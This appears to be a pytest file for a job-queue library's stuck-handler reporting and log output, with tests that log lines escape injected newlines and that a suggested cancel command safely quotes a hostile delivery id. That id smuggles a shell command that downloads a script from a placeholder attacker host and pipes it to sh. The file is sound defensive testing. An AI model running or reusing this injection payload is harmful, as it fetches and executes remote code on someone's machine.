"""How a host sums up its running handlers for health, and logs each stuck one once
(workqueue.runtime.handler_runs): pure logic, no host."""

from __future__ import annotations

import logging

import pytest

from workqueue.models.hosts import STUCK_RUNS_LISTED
from workqueue.runtime.handler_runs import HandlerRun, StuckRunLog, runs_report


def run(
    delivery_id: str, started_at: float, *, token: str = "t1", threshold: int = 10
) -> HandlerRun:
    return HandlerRun(
        key=(delivery_id, token),
        subscription="orders.email",
        delivery_id=delivery_id,
        handler_key="orders.send",
        started_at=started_at,
        threshold_seconds=threshold,
        threshold_source="HANDLER_RUN_WARNING_SECONDS",
    )


def stuck_lines(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [
        r.getMessage() for r in caplog.records if getattr(r, "action", None) == "handler_run_stuck"
    ]


def test_the_report_names_the_oldest_stuck_runs_first_up_to_its_limit():
    now = 1000.0
    runs = [run(f"d{n}", now - 20 - n) for n in range(STUCK_RUNS_LISTED + 2)]
    runs.append(run("young", now - 5))

    report = runs_report(runs, now)

    assert report["oldest_run_seconds"] == 20 + STUCK_RUNS_LISTED + 1
    assert report["stuck_count"] == STUCK_RUNS_LISTED + 2
    listed = [r["delivery_id"] for r in report["stuck_runs"]]
    assert listed == [f"d{n}" for n in range(STUCK_RUNS_LISTED + 1, 1, -1)]
    assert runs_report([], now) == {"oldest_run_seconds": None, "stuck_count": 0, "stuck_runs": []}


def test_each_stuck_run_is_logged_once_and_a_later_attempt_again(caplog):
    caplog.set_level(logging.WARNING, logger="workqueue.runtime.handler_runs")
    log = StuckRunLog()
    first = run("d1", 0.0)

    log.report([first], 30.0)
    log.report([first], 31.0)
    assert len(stuck_lines(caplog)) == 1

    log.report([], 32.0)  # it returned
    log.report([run("d1", 40.0, token="t2")], 60.0)  # the delivery's next attempt, stuck too
    assert len(stuck_lines(caplog)) == 2


def test_the_line_escapes_what_it_did_not_write_itself(caplog):
    caplog.set_level(logging.WARNING, logger="workqueue.runtime.handler_runs")
    forged = "d1\n2026-01-01 ERROR fake line"

    StuckRunLog().report([run(forged, 0.0)], 30.0)

    (line,) = stuck_lines(caplog)
    assert "\n" not in line and "\\n2026-01-01" in line
    assert "orders.send" in line and "orders.email" in line and "30 s" in line


def test_the_cancel_command_a_stuck_run_names_is_safe_to_paste(caplog):
    """Review helper-150: the command went out as written, delivery id and all, and on a cloud
    queue that id is the message's text, chosen by whoever may send to the queue: pasted, a
    shell ran `curl ... | sh` after the discard (as helper-142 found of the replay command)."""
    import shlex

    caplog.set_level(logging.WARNING, logger="workqueue")
    hostile = "x;curl${IFS}https://evil.example/p|sh"
    StuckRunLog().report([run(hostile, 0.0)], now=30.0)

    command = stuck_lines(caplog)[0].split("`")[1]
    words = list(shlex.shlex(command, posix=True, punctuation_chars=True))
    assert words[words.index("--delivery") + 1] == hostile, command
    assert ";" not in words and "|" not in words


def test_a_run_its_transport_cannot_cancel_is_told_what_can_stop_it(caplog):
    """Review helper-150: on a transport without supports_cancel (AWS) the advice was a discard
    that answers 'Nothing discarded'."""
    caplog.set_level(logging.WARNING, logger="workqueue")
    on_aws = HandlerRun(
        key=("d1", "t1"),
        subscription="orders.email",
        delivery_id="d1",
        handler_key="orders.send",
        started_at=0.0,
        threshold_seconds=10,
        threshold_source="HANDLER_RUN_WARNING_SECONDS",
        cancellable=False,
    )

    StuckRunLog().report([on_aws], now=30.0)

    (line,) = stuck_lines(caplog)
    assert "discard" not in line
    assert "restart its host" in line and "max_processing_seconds" in line
